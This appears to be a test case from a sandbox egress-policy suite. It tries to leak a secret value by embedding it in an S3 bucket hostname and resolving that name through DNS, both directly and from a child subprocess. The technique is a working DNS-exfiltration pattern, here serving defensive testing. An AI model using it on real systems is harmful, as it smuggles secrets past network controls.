# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: the variable of a bucket's name is set later, and the new bucket is asked for, by a child
#   too
# proof: query
# needs: resolver
import os
import socket
import subprocess
import sys

from attack import SECRET, attempt

HOST = SECRET + ".s3.us-east-1.amazonaws.com"
os.environ["ATTACK_BUCKET"] = SECRET


@attempt
def ask():
    return socket.getaddrinfo(HOST, 443)


@attempt
def ask_in_child():
    code = "import socket, sys; socket.getaddrinfo(sys.argv[1], 443)"
    return subprocess.run(
        [sys.executable, "-S", "-c", code, HOST], check=True, stderr=subprocess.DEVNULL
    )
